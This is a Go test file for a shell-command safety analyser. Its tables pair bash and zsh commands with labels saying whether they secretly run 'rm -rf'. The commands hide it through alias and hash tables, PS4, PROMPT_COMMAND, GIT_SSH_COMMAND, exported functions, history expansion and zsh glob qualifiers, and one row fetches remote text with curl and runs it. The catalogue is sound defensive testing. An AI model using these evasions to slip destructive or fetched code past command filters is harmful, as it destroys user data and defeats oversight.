package shell

import "testing"

// Names bash evaluates (BASH_CMDS, BASH_ALIASES, PROMPT_COMMAND, PS0 to
// PS4, BASH_ENV, the command variables, a subscript) are written by more
// than assignments: read, printf -v, mapfile, getopts, wait -p,
// arithmetic, ${X:=v}, for, a nameref, declare of an expanded word.
var writesToEvaluatedNames = newHunt(rmR, []huntRow{
	{cmd: `read 'BASH_CMDS[ls]' <<< /bin/rm; ls -rf x`, runs: true, how: inBash},
	{cmd: `IFS=/ read -r a 'BASH_CMDS[ls]' <<< 'x//bin/rm'; ls -rf x`, runs: true, how: inBash},
	{cmd: `printf -v 'BASH_CMDS[ls]' /bin/rm; ls -rf x`, runs: true, how: inBash},
	{cmd: `printf -vBASH_CMDS[ls] %s /bin/rm; ls -rf x`, runs: true, how: inBash},
	{cmd: `declare -n r=BASH_CMDS; r[ls]=/bin/rm; ls -rf x`, runs: true, how: inBash},
	{cmd: `declare -n r='BASH_CMDS[ls]'; r=/bin/rm; ls -rf x`, runs: true, how: inBash},
	{cmd: `declare -n r=BASH_CMDS; printf -v 'r[ls]' /bin/rm; ls -rf x`, runs: true, how: inBash},
	{cmd: `f() { local -n r=$1; r[ls]=/bin/rm; }; f BASH_CMDS; ls -rf x`, runs: true, how: inBash},
	{cmd: `f() { printf -v "$1" /bin/rm; }; f 'BASH_CMDS[ls]'; ls -rf x`, runs: true, how: inBash},
	{cmd: `sleep 0 & wait -n -p 'a[$(rm -rf x)]'`, runs: true, how: inBash},
	{cmd: `: ${BASH_CMDS[ls]:=/bin/rm}; ls -rf x`, runs: true, how: inBash},
	{cmd: `p=/bin/rm; : ${BASH_CMDS[ls]=$p}; ls -rf x`, runs: true, how: inBash},
	{cmd: `declare $(echo 'BASH_CMDS[ls]=/bin/rm'); ls -rf x`, runs: true, how: inBash},
	{cmd: `n=BASH_CMDS; declare "$n[ls]=/bin/rm"; ls -rf x`, runs: true, how: inBash},
	{cmd: `declare 'BASH_CMDS[ls]=/bin/rm'; ls -rf x`, runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; declare -A 'BASH_ALIASES=([ls]=\"rm -rf\")'\nls x", runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; read -r 'BASH_ALIASES[ls]' <<< 'rm -rf'\nls x", runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/rm; let 'BASH_ALIASES[ls]=1'\nls -rf x", runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/rm; (( BASH_ALIASES[ls]=1 ))\nls -rf x", runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; for BASH_ALIASES in 'rm -rf x'; do :; done\n0", runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_CMDS[r]=/bin/rm; set -- -r; declare -n o='BASH_ALIASES[ls]'; getopts r o\nls -rf x", runs: true, how: inBash},
	{cmd: `set -- -r; declare -n o='a[$(rm -rf x)]'; getopts r o`, runs: true, how: inBash},
	{cmd: `printf -v PS4 '$(rm -rf x)'; set -x; :`, runs: true, how: inBash},
	{cmd: `read -r PS4 < <(curl -s http://e/x | sed 's/.*/$(&)/'); set -x; :`, runs: true, how: inBash},
	{cmd: `declare -n r=PS4; r='$(rm -rf x)'; set -x; :`, runs: true, how: inBash},
	{cmd: `printf -v PROMPT_COMMAND 'rm -rf x'; export PROMPT_COMMAND; bash -i`, runs: true, how: inBash},
	{cmd: `read PROMPT_COMMAND <<< 'rm -rf x'; export PROMPT_COMMAND; bash -i`, runs: true, how: inBash},
	{cmd: `printf -v GIT_SSH_COMMAND 'rm -rf x #'; export GIT_SSH_COMMAND; git ls-remote ssh://h/r`, runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/rm; declare -iA BASH_ALIASES=([ls]=1+0)\nls -rf x", runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/rm; e='BASH_ALIASES[ls]=1'; let e\nls -rf x", runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/rm; e='BASH_ALIASES[ls]=1'; : $((e))\nls -rf x", runs: true, how: inBash},
	{cmd: `BASH_CMDS[ls]=/bin/r; BASH_CMDS[ls]+=m; ls -rf x`, runs: true, how: inBash},
	{cmd: `PS4='$('; PS4+='rm -rf x)'; set -x; :`, runs: true, how: inBash},
	{cmd: `GIT_SSH_COMMAND=/bin/r; GIT_SSH_COMMAND+='m -rf x #'; export GIT_SSH_COMMAND; git ls-remote ssh://h/r`, runs: true, how: inBash},
	{cmd: `declare -n r=BASH_CMDS; : ${r[ls]:=/bin/rm}; ls -rf x`, runs: true, how: inBash},
	{cmd: `builtin printf -v 'BASH_CMDS[ls]' /bin/rm; ls -rf x`, runs: true, how: inBash},
	{cmd: `command read 'BASH_CMDS[ls]' <<< /bin/rm; ls -rf x`, runs: true, how: inBash},
	{cmd: `typeset -n r=BASH_CMDS; r+=([ls]=/bin/rm); ls -rf x`, runs: true, how: inBash},
	{cmd: `mapfile -t PS4 <<< '$(rm -rf x)'; set -x; :`, runs: true, how: inBash},
	{cmd: `env GIT_SSH_COMMAND='rm -rf x #' git ls-remote ssh://h/r`, runs: true, how: inBash},
	{cmd: `env PS4='$(rm -rf x)' bash -xc :`, runs: true, how: inBash},
	{cmd: `env BASH_ENV=/dev/stdin bash -c : <<< 'rm -rf x'`, runs: true, how: inBash},
	{cmd: `env 'BASH_FUNC_ls%%=() { rm -rf x; }' bash -c ls`, runs: true, how: inBash},
	{cmd: `env -u LANG BASH_FUNC_ls%%='() { rm -rf "$@"; }' bash -c 'ls -r x'`, runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/rm; declare -iA BASH_ALIASES; BASH_ALIASES[ls]=1+0\nls -rf x", runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/rm; declare -iA BASH_ALIASES; declare 'BASH_ALIASES[ls]=1+0'\nls -rf x", runs: true, how: inBash},
	{cmd: `read -r GIT_SSH_COMMAND <<< 'rm -rf x #'; export GIT_SSH_COMMAND; git ls-remote ssh://h/r`, runs: true, how: inBash},
	// Controls: the same writers, of ordinary names or of values that
	// run nothing, read in full.
	{cmd: `read -r line <<< 'ls -la'; echo "$line"`, runs: false, how: inBash},
	{cmd: `printf -v padded '%05d' 42; echo "$padded"`, runs: false, how: inBash},
	{cmd: `printf -v 'BASH_CMDS[ls]' /bin/ls; ls -rf x`, runs: false, how: inBash},
	{cmd: `declare -n r=BASH_CMDS; r[ll]=/bin/ls; ll x`, runs: false, how: inBash},
	{cmd: `: ${DIR:=x}; ls "$DIR"`, runs: false, how: inBash},
	{cmd: `for f in a b; do echo "$f"; done`, runs: false, how: inBash},
	{cmd: `(( count += 1 )); echo $count`, runs: false, how: inBash},
	{cmd: `let 'n = 2 * 3'; echo $n`, runs: false, how: inBash},
	{cmd: `sleep 0 & wait -n -p pid; echo "$pid"`, runs: false, how: inBash},
	{cmd: `set -- -v; getopts v opt; echo "$opt"`, runs: false, how: inBash},
	{cmd: `mapfile -t lines <<< 'rm -rf x'; echo "${lines[0]}"`, runs: false, how: inBash},
	{cmd: `declare -n ref=HOME; echo "$ref"`, runs: false, how: inBash},
	{cmd: `f() { local -n arr=$1; echo "${arr[@]}"; }; f PATH`, runs: false, how: inBash},
	{cmd: `export $(grep -v '^#' .env | xargs)`, runs: false, how: inBash},
	{cmd: `declare -A m=([ls]=rm); echo "${m[ls]}"`, runs: false, how: inBash},
	{cmd: "shopt -s expand_aliases; printf -v 'BASH_ALIASES[ll]' 'ls -l'\nll x", runs: false, how: inBash},
	{cmd: `IFS=: read -r a b <<< 'rm:-rf'; echo "$a" "$b"`, runs: false, how: inBash},
	{cmd: `read -r -a words <<< 'rm -rf x'; echo "${#words[@]}"`, runs: false, how: inBash},
	{cmd: `declare 'greeting=rm -rf x'; echo "$greeting"`, runs: false, how: inBash},
	{cmd: `printf -v PS4 '+ '; set -x; ls x`, runs: false, how: inBash},
	{cmd: `for ((i = 0; i < 3; i++)); do echo $i; done`, runs: false, how: inBash},
	{cmd: `declare -i n=1+2; declare -l name=ABC; echo $n $name`, runs: false, how: inBash},
	{cmd: `declare -A BASH_CMDS=([ll]=/bin/ls); ll x`, runs: false, how: inBash},
	{cmd: `PATH+=:/opt/bin; ls x`, runs: false, how: inBash},
	{cmd: `env 'BASH_FUNC_ll%%=() { ls -la "$@"; }' bash -c 'll x'`, runs: false, how: inBash},
	{cmd: `env GIT_SSH_COMMAND='ssh -o BatchMode=yes' PS4='+ ' bash -xc 'ls x'`, runs: false, how: inBash},
	{cmd: `env -C x LANG=C ls`, runs: false, how: inBash},
	{cmd: `read -r 'cfg[ls]' <<< /bin/rm; ls -rf x`, runs: false, how: inBash},
	{cmd: `printf -v 'cfg[ls]' /bin/rm; ls -rf x`, runs: false, how: inBash},
	{cmd: `declare -n r=cfg; r[ls]=/bin/rm; ls -rf x`, runs: false, how: inBash},
	{cmd: `: ${cache[ls]:=/bin/rm}; ls -rf x`, runs: false, how: inBash},
	{cmd: `p=/bin/rm; : ${tool:=$p}; ls -rf x`, runs: false, how: inBash},
	{cmd: `declare 'opts=-rf'; ls x`, runs: false, how: inBash},
	{cmd: `declare -A BASH_ALIASES=([ll]='ls -l'); ls x`, runs: false, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/ls; let 'n=1'\nls -la x", runs: false, how: inBash},
	{cmd: `for name in rm ls; do echo "$name"; done`, runs: false, how: inBash},
	{cmd: `set -- -r; getopts r flag; echo "$flag"`, runs: false, how: inBash},
	{cmd: `sleep 0 & wait -n -p 'pids[0]'; echo "${pids[0]}"`, runs: false, how: inBash},
	{cmd: `mapfile -t -O 1 lines < /dev/null; echo "${#lines[@]}"`, runs: false, how: inBash},
	{cmd: `printf -v GIT_SSH_COMMAND 'ssh -o BatchMode=yes'; export GIT_SSH_COMMAND; ls x`, runs: false, how: inBash},
	{cmd: `declare -i total=0; (( total += 2 )); echo $total`, runs: false, how: inBash},
	{cmd: `f() { local -n out=result; out=done; }; f; echo "$result"`, runs: false, how: inBash},
	{cmd: `read -r -a parts <<< 'BASH_CMDS[ls]=/bin/rm'; ls x`, runs: false, how: inBash},
	{cmd: `printf -v msg 'BASH_CMDS[%s]' ls; echo "$msg"`, runs: false, how: inBash},
	{cmd: `e='n=1'; let e; echo $n`, runs: false, how: inBash},
	{cmd: `CFLAGS+=' -O2'; echo "$CFLAGS"`, runs: false, how: inBash},
	{cmd: `declare -n r=BASH_CMDS; echo "${r[@]}"`, runs: false, how: inBash},
})

func TestAWriteToANameBashEvaluatesIsFollowedOrUnknown(t *testing.T) {
	writesToEvaluatedNames.check(t)
}

// A name BASH_CMDS, hash or BASH_ALIASES binds runs what it is bound to
// in one shell, or with one option, and the program it names in the
// other: bash without expand_aliases, zsh, which has neither table.
var boundNames = newHunt(rmR, []huntRow{
	{cmd: "BASH_ALIASES[rm]=echo\nrm -rf x", runs: true, how: inBash},
	{cmd: "declare -A BASH_ALIASES=([rm]=:)\nrm -rf x", runs: true, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_ALIASES[r]='rm -rf'\nr x", runs: true, how: inBash},
	{cmd: `BASH_CMDS[x]=/bin/rm; x -rf x`, runs: true, how: inBash},
	{cmd: `hash -p /bin/rm r; r -rf x`, runs: true, how: inBash},
	{cmd: `hash -p /bin/echo rm; rm -rf x`, runs: true, how: inZsh},
	{cmd: `typeset -A BASH_CMDS; BASH_CMDS[rm]=/bin/echo; rm -rf x`, runs: true, how: inZsh},
	{cmd: `typeset -A BASH_ALIASES; BASH_ALIASES[rm]=echo; eval 'rm -rf x'`, runs: true, how: inZsh},
	// Controls: names bound to harmless programs, read both ways.
	{cmd: `BASH_CMDS[ll]=/bin/ls; ll x`, runs: false, how: inBash},
	{cmd: `hash -p /bin/ls ll; ll x`, runs: false, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_ALIASES[ll]='ls -l'\nll x", runs: false, how: inBash},
	{cmd: `BASH_CMDS[rm]=/bin/echo; rm x`, runs: false, how: inBash},
	{cmd: "shopt -s expand_aliases; BASH_ALIASES[ls]='ls -la'\nls x", runs: false, how: inBash},
	{cmd: `BASH_CMDS=([ll]=/bin/ls [la]=/bin/ls); ll x; la x`, runs: false, how: inBash},
	{cmd: `hash -r; ls x`, runs: false, how: inBash},
})

func TestANameBoundOnTheLineIsReadAsWrittenAndAsBound(t *testing.T) {
	boundNames.check(t)
}

// bash 5.1 runs every element of a PROMPT_COMMAND array before each
// prompt.
var promptCommandArrays = newHunt(rmR, []huntRow{
	{cmd: `bash -i <<< 'PROMPT_COMMAND=( true "rm -rf x" )'`, runs: true, how: inBash},
	{cmd: `bash -i <<< 'PROMPT_COMMAND[1]="rm -rf x"'`, runs: true, how: inBash},
	{cmd: `bash -i <<< 'PROMPT_COMMAND+=("rm -rf x")'`, runs: true, how: inBash},
	{cmd: `bash -i <<< 'declare -a PROMPT_COMMAND=(true "rm -rf x")'`, runs: true, how: inBash},
	{cmd: `bash -i <<< 'PROMPT_COMMAND=([3]="rm -rf x")'`, runs: true, how: inBash},
	{cmd: `bash -i <<< 'mapfile -t PROMPT_COMMAND <<< "rm -rf x"'`, runs: true, how: inBash},
	{cmd: `bash -i <<< 'printf -v "PROMPT_COMMAND[2]" "rm -rf x"'`, runs: true, how: inBash},
	{cmd: `bash -i <<< 'read -r "PROMPT_COMMAND[1]" <<< "rm -rf x"'`, runs: true, how: inBash},
	{cmd: `CMD='rm -rf x' bash -i <<< 'PROMPT_COMMAND=(true "$CMD")'`, runs: true, how: inBash},
	{cmd: `bash -i <<< 'declare -n p=PROMPT_COMMAND; p[1]="rm -rf x"'`, runs: true, how: inBash},
	{cmd: `bash -i <<< 'local_cmds=("rm -rf x"); PROMPT_COMMAND=("${local_cmds[@]}")'`, runs: true, how: inBash},
	// Controls: arrays of harmless commands, and arrays that are data.
	{cmd: `bash -i <<< 'PROMPT_COMMAND=(true "history -a")'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'PROMPT_COMMAND+=("echo rm -rf x")'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'PROMPT_COMMAND[1]="ls x"'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'a=(true "rm -rf x"); echo "${#a[@]}"'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'PROMPT_COMMAND=("echo one" "echo two")'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'declare -a PROMPT_COMMAND=("history -a" "history -n")'`, runs: false, how: inBash},
	{cmd: `cmds=('rm -rf x' 'ls'); echo "${cmds[1]}"`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'PROMPT_COMMAND=()'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'PROMPT_COMMAND=([2]="ls x" [5]=true)'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'PROMPT_COMMAND+=("history -a"); declare -p PROMPT_COMMAND'`, runs: false, how: inBash},
	{cmd: `PROMPT_COMMAND='history -a'; ls x`, runs: false, how: inBash},
})

func TestEveryElementOfAPromptCommandArrayIsRead(t *testing.T) {
	promptCommandArrays.check(t)
}

// fc runs commands from the history, which the line can fill (history
// -s, history -r FILE, the lines an interactive shell read before), and
// an interactive shell, or one after set -H, expands !! and the like into
// earlier lines.
var historyRuns = newHunt(rmR, []huntRow{
	{cmd: `history -s 'rm -rf x'; fc -s`, runs: true, how: inBash},
	{cmd: `history -s 'rm -rf x'; fc -e -`, runs: true, how: inBash},
	{cmd: `printf '%s\n' 'rm -rf x' > h; set -o history; history -r h; fc -s`, runs: true, how: inBash},
	{cmd: `bash -i <<< $'history -s "rm -rf x"\nfc -s'`, runs: true, how: inBash},
	{cmd: `bash -ic 'history -s "rm -rf x"; fc -s'`, runs: true, how: inBash},
	{cmd: `bash --norc -i <<< $'history -s "rm -rf x"\n!!'`, runs: true, how: inBash},
	{cmd: `bash --rcfile /dev/null -i <<< $'history -s "rm -rf x"\n!!'`, runs: true, how: inBash},
	{cmd: `bash -l -i <<< $'history -s "rm -rf x"\n!!'`, runs: true, how: inBash},
	{cmd: `bash -o history -o histexpand <<< $'history -s "rm -rf x"\n!!'`, runs: true, how: inBash},
	{cmd: `bash -H -o history <<< $'history -s "rm -rf x"\n!!'`, runs: true, how: inBash},
	{cmd: `set -H; eval $'set -o history; history -s "rm -rf x"\n!!'`, runs: true, how: inBash},
	{cmd: `bash -i <<< $'history -s "rm -rf x"\n!!'`, runs: true, how: inBash},
	{cmd: `bash -i <<< $'history -s "rm -rf x"\n!rm'`, runs: true, how: inBash},
	{cmd: `bash -i <<< $'history -s "rm -rf x"\n!-1'`, runs: true, how: inBash},
	{cmd: `bash -i <<< $'history -s "rm -rf x"\n$(echo !!)'`, runs: true, how: inBash},
	{cmd: `bash -i <<< $'history -s "rm -rf xy"\n^y^'`, runs: true, how: inBash},
	{cmd: "set -o history -H; history -s 'rm -rf x'\n!!", runs: true, how: inBash},
	{cmd: "set -H -o history\nhistory -s 'rm -rf x'\n!rm", runs: true, how: inBash},
	{cmd: `printf '%s\n' 'rm -rf x' > h; HISTFILE=h bash -i <<< '!rm'`, runs: true, how: inBash},
	{cmd: `printf '%s\n' 'rm -rf x' > h; HISTFILE=h bash -i <<< 'fc -s'`, runs: true, how: inBash},
	{cmd: `zsh -i <<< $'print -s "rm -rf x"\nr'`, runs: true, how: inZsh},
	// Controls: history read or written, and ! where nothing expands it.
	{cmd: `fc -l`, runs: false, how: inBash},
	{cmd: `history | tail -5`, runs: false, how: inBash},
	{cmd: `history -s 'rm -rf x'`, runs: false, how: inBash},
	{cmd: `history -c`, runs: false, how: inBash},
	{cmd: `echo 'done!!'`, runs: false, how: inBash},
	{cmd: `echo "feat!: breaking"`, runs: false, how: inBash},
	{cmd: `[[ ! -d y ]] && echo none`, runs: false, how: inBash},
	{cmd: `if ! grep -q x /dev/null; then echo no; fi`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'echo "hi!"'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'ls x; echo $?'`, runs: false, how: inBash},
	{cmd: `sleep 0 & wait $!`, runs: false, how: inBash},
	{cmd: `R --version`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'history -s "rm -rf x"; history 1'`, runs: false, how: inBash},
	{cmd: `set -o history; history -s 'rm -rf x'; fc -ln -1`, runs: false, how: inBash},
	{cmd: `setopt banghist; print -s 'rm -rf x'; !!`, runs: false, how: inZsh},
	{cmd: `bash -o history <<< $'history -s "rm -rf x"\n!!'`, runs: false, how: inBash},
	{cmd: `bash -c $'history -s "rm -rf x"\n!!'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'fc -l'`, runs: false, how: inBash},
	{cmd: `bash -i <<< 'echo "wow!" && ls x'`, runs: false, how: inBash},
	{cmd: `git commit -m 'feat!: x' 2>/dev/null; echo $?`, runs: false, how: inBash},
	{cmd: `set -o history; history -s 'rm -rf x'; history -w h; ls x`, runs: false, how: inBash},
})

func TestACommandRunFromTheHistoryIsUnknown(t *testing.T) {
	historyRuns.check(t)
}

// zsh, the shell of macOS, gives forms a meaning bash does not: glob
// qualifiers that run code, $=c that splits, and its tables of
// functions, commands and aliases. The same text may be run by zsh, so
// they are read wherever they appear.
var zshForms = newHunt(rmR, []huntRow{
	{cmd: `echo *(e:'rm -rf x':)`, runs: true, how: inZsh},
	{cmd: `ls -d *(e:'rm -rf $REPLY':)`, runs: true, how: inZsh},
	{cmd: `setopt extendedglob; echo *(#qe:'rm -rf x':)`, runs: true, how: inZsh},
	{cmd: `f() { rm -rf x; }; echo *(+f)`, runs: true, how: inZsh},
	{cmd: `c='rm -rf x'; $=c`, runs: true, how: inZsh},
	{cmd: `c=-rf; rm $=c x`, runs: true, how: inZsh},
	{cmd: `c='rm -rf x'; ${=c}`, runs: true, how: inZsh},
	{cmd: `functions[ls]='rm -rf x'; ls`, runs: true, how: inZsh},
	{cmd: `functions=(ls 'rm -rf x'); ls`, runs: true, how: inZsh},
	{cmd: `printf -v 'functions[ls]' 'rm -rf x'; ls`, runs: true, how: inZsh},
	{cmd: `commands[ls]=/bin/rm; ls -rf x`, runs: true, how: inZsh},
	{cmd: `read 'commands[ls]' <<< /bin/rm; ls -rf x`, runs: true, how: inZsh},
	{cmd: `hash ls=/bin/rm; ls -rf x`, runs: true, how: inZsh},
	{cmd: `aliases[ls]='rm -rf'; eval 'ls x'`, runs: true, how: inZsh},
	{cmd: `galiases[X]='rm -rf x'; eval X`, runs: true, how: inZsh},
	{cmd: `saliases[d]='rm -rf'; eval x.d`, runs: true, how: inZsh},
	{cmd: `commands[rm]=/bin/echo; rm -rf x`, runs: true, how: inBash},
	{cmd: `hash rm=/bin/echo; rm -rf x`, runs: true, how: inBash},
	{cmd: "aliases[rm]=echo\nrm -rf x", runs: true, how: inBash},
	{cmd: `zsh -i <<< $'sched +0 rm -rf x\nsleep 2'`, runs: true, how: inZsh},
	{cmd: `zsh -i <<< $'sched -o +0 rm -rf x\nsleep 2'`, runs: true, how: inZsh},
	// Controls: qualifiers that only select, and the tables bound to
	// harmless programs.
	{cmd: `echo *(.)`, runs: false, how: inZsh},
	{cmd: "shopt -s extglob\nls -d !(node_modules)", runs: false, how: inBash},
	{cmd: "shopt -s extglob\nls -d !(site-packages|x)", runs: false, how: inBash},
	{cmd: `echo *(/)`, runs: false, how: inZsh},
	{cmd: `ls -d *(N)`, runs: false, how: inZsh},
	{cmd: `echo *(om[1])`, runs: false, how: inZsh},
	{cmd: `functions[ll]='ls -l'; ll`, runs: false, how: inZsh},
	{cmd: `commands[ll]=/bin/ls; ll x`, runs: false, how: inZsh},
	{cmd: `hash ll=/bin/ls; ll x`, runs: false, how: inZsh},
	{cmd: `aliases[ll]='ls -l'; eval 'll x'`, runs: false, how: inZsh},
	{cmd: `hash -d proj=/tmp; echo ~proj`, runs: false, how: inZsh},
	{cmd: `c=-la; ls $=c x`, runs: false, how: inZsh},
	{cmd: `print -l *(@)`, runs: false, how: inZsh},
	{cmd: `commands=(build test); print -l $commands`, runs: false, how: inZsh},
	{cmd: `echo *(-/)`, runs: false, how: inZsh},
	{cmd: `zsh -i <<< $'sched +0 ls x\nsleep 2'`, runs: false, how: inZsh},
	{cmd: `zsh -i <<< $'sched 0:00 ls; sched -1'`, runs: false, how: inZsh},
	{cmd: `echo *(om)`, runs: false, how: inZsh},
	{cmd: `ls -d *(/N)`, runs: false, how: inZsh},
	{cmd: `functions=(greet 'echo hi'); greet`, runs: false, how: inZsh},
	{cmd: `aliases[g]='git status'; echo ok`, runs: false, how: inZsh},
	{cmd: `c='a b'; print -l $=c`, runs: false, how: inZsh},
	{cmd: `saliases[txt]=cat; echo ok`, runs: false, how: inZsh},
})

func TestZshsOwnFormsAreReadWhereverTheyAppear(t *testing.T) {
	zshForms.check(t)
}
